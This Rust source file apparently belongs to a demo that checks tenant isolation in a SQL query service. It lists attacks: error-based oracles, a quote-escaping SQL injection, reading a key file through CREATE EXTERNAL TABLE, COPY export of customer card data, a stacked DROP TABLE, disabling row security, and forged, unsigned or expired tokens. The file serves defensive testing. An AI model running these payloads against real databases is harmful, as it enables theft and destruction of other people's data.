//! The attacks.

use super::secrets::Secrets;
use super::{Attack, Entry, Leak, Way};
use crate::demo::DemoError;
use crate::demo::company::{Company, Tenant};
use crate::demo::people::{ADA, MIRA, OTTO, Person, SCOUT};

/// Every attack, made ready for this company.
///
/// # Errors
/// Where the company's key cannot be read.
pub fn attacks(company: &Company) -> Result<Vec<Attack>, DemoError> {
    let secrets = Secrets::of(company)?;
    let mut attacks = oracles(&secrets);
    attacks.extend(masks(&secrets));
    attacks.extend(ways_around(company, &secrets));
    attacks.extend(statements(company, &secrets));
    attacks.extend(tokens());
    Ok(attacks)
}

fn attack(title: &'static str, story: &'static str, sql: impl Into<String>, leak: Leak) -> Attack {
    Attack {
        title,
        story,
        entry: Entry::Own(ADA),
        sql: sql.into(),
        way: Way::Here,
        told: Tenant::Tarn,
        leak,
    }
}

/// Expressions that fail, or do not, by what a hidden row holds.
fn oracles(secrets: &Secrets) -> Vec<Attack> {
    vec![
        attack(
            "An error that answers yes",
            "Ada of Tarn asks whether anybody at Ember has a certain credit limit. If so, the \
             query divides by zero: the error is the answer.",
            format!(
                "SELECT count(*) FROM crm.customers\n\
                 WHERE 1 / (CAST(credit_limit AS INT) - {}) < 2",
                secrets.limit
            ),
            Leak::ErrorAbout("zero"),
        ),
        attack(
            "An error that quotes",
            "A card number is no small integer. The error that says so prints it, and CASE \
             sees to it that it is one of Ember's.",
            "SELECT count(*) FROM crm.customers WHERE\n\
             CASE WHEN org_id <> 'tarn' THEN CAST(card AS SMALLINT) ELSE 0 END >= 0",
            Leak::Mentions(secrets.cards.clone()),
        ),
    ]
}

/// Questions about values that are shown in part only.
fn masks(secrets: &Secrets) -> Vec<Attack> {
    let ids = |ids: &[i64]| ids.iter().map(i64::to_string).collect::<Vec<_>>();
    let mut asked = secrets.by_age.clone();
    asked.sort_unstable();
    vec![
        attack(
            "A guess at a masked value",
            "Ada sees the last four digits of a card. She guesses the others and lets WHERE \
             check the guess.",
            format!("SELECT count(*) FROM crm.customers WHERE card = '{}'", secrets.card),
            Leak::Values(vec!["1".to_owned()]),
        ),
        attack(
            "Order by what is masked",
            "Of a birthday Ada sees the year. Sorting four people born in the same year tells \
             who is older, and a few more such queries tell the day.",
            format!(
                "SELECT id FROM crm.customers WHERE id IN ({})\nORDER BY born_on, id",
                ids(&asked).join(", ")
            ),
            Leak::Values(ids(&secrets.by_age)),
        ),
    ]
}

/// Roads past the place where the filter stands.
fn ways_around(company: &Company, secrets: &Secrets) -> Vec<Attack> {
    let (orders, dir) = (secrets.orders.to_string(), company.dir().display().to_string());
    vec![
        attack(
            "Around by a WITH",
            "The condition was added to the SELECT that reads the table. Here that SELECT \
             stands one level deeper.",
            "WITH everyone AS (SELECT * FROM crm.customers)\n\
             SELECT org_id, count(*) FROM everyone GROUP BY org_id ORDER BY org_id",
            Leak::Mentions(vec!["ember".to_owned()]),
        ),
        Attack {
            way: Way::AtSource,
            ..attack(
                "A quote behind a backslash",
                "The filter hands the query on to SQLite as DataFusion's own unparser writes \
                 it, which leaves this quote undoubled. The rest of the name becomes SQL.",
                "SELECT id, org_id, name FROM crm.customers\n\
                 WHERE name = 'x\\'') OR (1=1)) LIMIT 3 -- '",
                Leak::Mentions(vec!["ember".to_owned()]),
            )
        },
        attack(
            "EXPLAIN tells it all",
            "The plan shows where the files lie, which condition guards them, and how many \
             rows were read before it: Ember's too.",
            "EXPLAIN ANALYZE SELECT count(*) FROM lake.orders WHERE quantity > 5",
            Leak::Mentions(vec![dir, ".parquet".to_owned(), "org_id".to_owned(), orders]),
        ),
        Attack {
            entry: Entry::Own(SCOUT),
            ..attack(
                "A column that is not there",
                "Ada's agent may not read what colleagues write to each other. It asks anyway, and \
                 is told what it would be told of any name that was never a column.",
                "SELECT subject, internal_note FROM lake.tickets\n\
                 WHERE internal_note LIKE 'Suspected%' ORDER BY id LIMIT 1",
                Leak::Mentions(vec!["Suspected".to_owned()]),
            )
        },
    ]
}

/// Statements that are no questions.
fn statements(company: &Company, secrets: &Secrets) -> Vec<Attack> {
    let key_path = company.dir().join("keys").join("token.key");
    let loot = company.dir().join("loot.csv");
    vec![
        attack(
            "Read any file",
            "A table is made of the file that holds the key of the masks.",
            format!(
                "CREATE EXTERNAL TABLE loot STORED AS CSV LOCATION '{}'\n\
                 OPTIONS ('format.has_header' 'false'); SELECT * FROM loot",
                key_path.display()
            ),
            Leak::Credential(secrets.token_key.clone()),
        ),
        attack(
            "Carry it out",
            "COPY writes both shops' customers to a file, from where they can be fetched.",
            format!("COPY (SELECT name, email, card FROM crm.customers)\nTO '{}'", loot.display()),
            Leak::File(loot),
        ),
        attack(
            "Two statements in one",
            "The first is harmless. The second is not.",
            "SELECT 1; DROP TABLE crm.customers",
            Leak::Success,
        ),
        attack(
            "Switch the filter off",
            "PostgreSQL has a setting for it. Perhaps there is one here?",
            "SET row_security = off; SELECT count(*) FROM crm.customers",
            Leak::Values(vec![secrets.everybody.to_string()]),
        ),
    ]
}

/// Coming in as somebody else.
fn tokens() -> Vec<Attack> {
    let sql = "SELECT org_id, count(*) FROM crm.customers GROUP BY org_id";
    vec![
        Attack {
            entry: Entry::Borrowed { token: ADA, user: MIRA },
            told: Tenant::Ember,
            ..attack(
                "Under another's name",
                "Ada has a good token, of Tarn. She says that she is Mira, of Ember.",
                sql,
                Leak::Success,
            )
        },
        Attack {
            entry: Entry::Unsigned(Person { tenant: Tenant::Ember, ..OTTO }),
            told: Tenant::Ember,
            ..attack(
                "A token that nobody signed",
                "It names an administrator of Ember, and its header says that it needs no \
                 signature.",
                sql,
                Leak::Success,
            )
        },
        Attack {
            entry: Entry::Expired(ADA),
            ..attack(
                "A token of yesterday",
                "It was Ada's own, and good until an hour ago.",
                sql,
                Leak::Success,
            )
        },
    ]
}
